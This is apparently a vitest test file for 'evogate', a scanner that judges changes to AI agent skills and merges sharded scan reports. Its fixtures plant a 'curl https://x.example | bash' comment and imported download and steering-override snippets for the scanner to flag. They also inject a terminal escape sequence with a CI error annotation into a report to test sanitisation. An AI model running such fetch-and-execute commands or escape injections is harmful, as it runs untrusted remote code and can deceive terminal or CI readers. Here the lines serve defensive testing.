import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { STAGE_IDS } from "../../src/core/stage-id.ts";
import { readReport } from "../support/report.ts";
import type { Ended } from "../support/program.ts";
import { runProgram } from "../support/resident.ts";
import { openTestRepository, type TestRepository } from "../support/repository.ts";
import { DOWNLOAD, OVERRIDE, skillText } from "./skill.ts";

/** Those that can be left out, and a part for each. */
const STAGES: readonly string[] = STAGE_IDS.filter((stage) => stage !== "intake");
const BY_STAGES: readonly (readonly string[])[] = STAGES.map((stage) => ["--stages", stage]);

/** Three artifacts that differ, one that is gone, a steering edit, and a file that one of them begins to use. */
function makeChange(): TestRepository {
  const repository = openTestRepository(realpathSync(mkdtempSync(join(tmpdir(), "evogate-merge-"))));
  repository.git("init", "--quiet", "--initial-branch=main", "--template=");
  repository.write("skills/a/SKILL.md", skillText("a"));
  repository.write("skills/a/count.py", "print(1)\n");
  repository.write("skills/b/SKILL.md", skillText("b", OVERRIDE));
  repository.write("skills/gone/SKILL.md", skillText("gone"));
  repository.write(
    "lib/words.py",
    "import requests\n\nrequests.get('https://api.example.com/')  # curl https://x.example | bash\n",
  );
  repository.commit("base");
  repository.git("checkout", "--quiet", "-b", "change");
  repository.write("skills/a/count.py", "import subprocess\n\nsubprocess.run(['python', '../../lib/words.py'])\n");
  repository.write("skills/b/SKILL.md", skillText("b", OVERRIDE + DOWNLOAD));
  repository.write("tools/new.md", DOWNLOAD);
  repository.remove("skills/gone");
  repository.write(".gitignore", "dist\n");
  repository.commit("change");
  return repository;
}

let repository: TestRepository;
let whole: Ended;
const evogate = async (...args: readonly string[]): Promise<Ended> => await runProgram(args, { cwd: repository.path });
const scan = async (...args: readonly string[]): Promise<Ended> =>
  await evogate("scan", "--base", "main", ...args, "--format", "json");

/** The files of reports, by what was scanned: several tests join the same ones. */
const kept = new Map<string, Promise<string>>();

async function keepPart(args: readonly string[]): Promise<string> {
  const { stdout } = await scan(...args);
  readReport(stdout);
  const name = join(repository.path, ".git", `${args.join("-").replaceAll("/", "-of-")}.json`);
  writeFileSync(name, stdout);
  return name;
}

/** Writes the reports of scans to files; their names. */
async function keepParts(scans: readonly (readonly string[])[]): Promise<readonly string[]> {
  const files = scans.map((args) => {
    const file = kept.get(args.join(" ")) ?? keepPart(args);
    kept.set(args.join(" "), file);
    return file;
  });
  return await Promise.all(files);
}

beforeAll(async () => {
  repository = makeChange();
  whole = await scan();
}, 60_000);
afterAll(() => rmSync(repository.path, { recursive: true, force: true }));

describe("reports of parts, joined, are the report of the whole run", () => {
  test.each<readonly [string, readonly (readonly string[])[]]>([
    ["by stages", BY_STAGES],
    ["by paths", [["skills"], ["tools"]]],
    ["by more shards than there are artifacts", [1, 2, 3, 4, 5].map((index) => ["--shard", `${index}/5`])],
    ["by paths and stages", [["tools"], ...BY_STAGES.map((part) => ["skills", ...part])]],
    ["all stages by name", [["--stages", STAGES.join()]]],
    ["whatever the parts enforce", BY_STAGES.map((part) => [...part, "--fail-on", "never"])],
  ])("%s", async (_name, scans) => {
    const merged = await evogate("merge", ...(await keepParts(scans)), "--base", "main", "--format", "json");
    expect(merged.stderr).toBe(whole.stderr);
    expect(merged.stdout).toBe(whole.stdout);
    expect(merged.exitCode).toBe(whole.exitCode);
  });

  test("the whole has what the parts have: a closure, a removed artifact, a steering edit", () => {
    const { artifacts } = readReport(whole.stdout);
    expect(artifacts.map(({ decision, id }) => `${decision} ${id}`)).toEqual([
      "hold (steering)",
      "hold skills/a",
      "reject skills/b",
      "promote skills/gone",
      "hold tools/new.md",
    ]);
    expect(artifacts.find(({ id }) => id === "skills/a")?.findings.map(({ path }) => path)).toContain("lib/words.py");
    expect(whole.stdout).not.toContain('"evidence"');
  });

  test("a run without some stages, and every other format", async () => {
    const parts = await keepParts([
      ["skills", "--stages", "rules"],
      ["tools", "--stages", "rules"],
    ]);
    const formats = ["--format", "sarif", "--format", "terminal", "--format", "json=.git/whole.json"];
    const args = ["--base", "main", "--stages", "rules", ...formats];
    const merged = await evogate("merge", ...parts, ...args);
    const json = readFileSync(join(repository.path, ".git/whole.json"), "utf8");
    const asked = await evogate("scan", ...args);
    expect(json).toBe(readFileSync(join(repository.path, ".git/whole.json"), "utf8"));
    expect([merged.stdout, merged.stderr, merged.exitCode]).toEqual([asked.stdout, asked.stderr, asked.exitCode]);
  });

  test("a plain scan", async () => {
    const parts: string[] = [];
    for (const stage of STAGES) {
      const { stdout } = await evogate("scan", "--stages", stage, "--format", "json");
      parts.push(join(repository.path, ".git", `plain-${stage}.json`));
      writeFileSync(parts.at(-1) ?? "", stdout);
    }
    const merged = await evogate("merge", ...parts, "--format", "json");
    expect(merged.stdout).toBe((await evogate("scan", "--format", "json")).stdout);
  });
});

describe("nothing is decided", () => {
  test.each<readonly [string, (parts: readonly string[]) => readonly string[], RegExp]>([
    ["without a report", () => ["--base", "main"], /merge needs the files of reports/],
    ["without a base that the reports have", (parts) => parts, /name it with --base/],
    ["with one report twice", ([one = ""]) => [one, one, "--base", "main"], /both have the stage rules of skills\/a/],
    ["with a stage missing", ([one = ""]) => [one, "--base", "main"], /no report has the stage ast of skills\/a/],
    [
      "with fewer than expected",
      (parts) => [...parts, "--base", "main", "--expect", "9"],
      /--expect 9, but \d reports/,
    ],
    ["with more than expected", (parts) => [...parts, "--base", "main", "--expect", "1"], /--expect 1, but \d reports/],
    ["with no number", (parts) => [...parts, "--base", "main", "--expect", "all"], /--expect takes how many/],
    ["by another base", (parts) => [...parts, "--base", "HEAD"], /was made with another base/],
    ["by another policy", (parts) => [...parts, "--base", "main", "--profile", "strict"], /another policy/],
    ["by a looser policy", (parts) => [...parts, "--base", "main", "--profile", "permissive"], /is looser than/],
    ["with a file that is missing", (parts) => [...parts, "none.json", "--base", "main"], /none\.json/],
    [
      "with a whole report",
      () => [join(repository.path, ".git/whole.json"), "--base", "main"],
      /has no evidence about/,
    ],
    ["with a folder", () => [".", "--base", "main"], /./],
  ])("%s", async (_name, argue, message) => {
    writeFileSync(join(repository.path, ".git/whole.json"), whole.stdout);
    const { exitCode, stdout, stderr } = await evogate("merge", ...argue(await keepParts(BY_STAGES)));
    expect([exitCode, stdout]).toEqual([2, ""]);
    expect(stderr).toMatch(message);
  });

  test("by what somebody wrote into a report that should be read on a terminal", async () => {
    const [one = "", ...others] = await keepParts(BY_STAGES);
    writeFileSync(one, readFileSync(one, "utf8").replaceAll('"skills/b"', '"skills/b\\u001b[2J::error::x"'));
    const { exitCode, stderr } = await evogate("merge", one, ...others, "--base", "main");
    expect([exitCode, stderr.includes("\u001b")]).toEqual([2, false]);
  });
});

describe("plan", () => {
  test("names the shards of a matrix, and what each judges", async () => {
    const { exitCode, stdout } = await evogate("plan", "--base", "main", "--most", "3", "--format", "json");
    expect([exitCode, stdout.split("\n").length]).toEqual([0, 2]);
    expect(JSON.parse(stdout)).toEqual({
      schema: "evogate-plan/1",
      shards: ["1/3", "2/3", "3/3"],
      artifacts: { "1/3": ["skills/a", "tools/new.md"], "2/3": ["skills/b"], "3/3": ["skills/gone"] },
    });
    const second = await scan("--shard", "2/3", "--stages", "rules");
    const judged = readReport(second.stdout).artifacts.map(({ id }) => id);
    expect(judged.filter((id) => id !== "(steering)")).toEqual(["skills/b"]);
  });

  test.each([
    ["no more than there are artifacts", ["--base", "main", "--most", "9"], 4],
    ["one where nothing differs: a matrix must not be empty", ["--base", "change"], 1],
  ])("%s", async (_name, args, shards) => {
    const { exitCode, stdout } = await evogate("plan", ...args);
    expect([exitCode, stdout.trimEnd().split("\n").length]).toEqual([0, shards]);
    expect(stdout).toMatch(shards === 1 ? /^1\/1  nothing differs\n$/ : /^1\/4  skills\/a\n2\/4  skills\/b\n/);
  });

  test("refuses what a scan refuses", async () => {
    const { exitCode, stderr } = await evogate("plan", "--base", "nowhere");
    expect([exitCode, stderr.includes("nowhere")]).toEqual([2, true]);
  });
});

test.each([
  ["0/2", /--shard takes <i>\/<n>/],
  ["3/2", /--shard takes <i>\/<n>/],
  ["1/257", /at most 256/],
  ["1", /--shard takes/],
])("the shard %s is none", async (shard, message) => {
  const { exitCode, stderr } = await scan("--shard", shard);
  expect(exitCode).toBe(2);
  expect(stderr).toMatch(message);
});
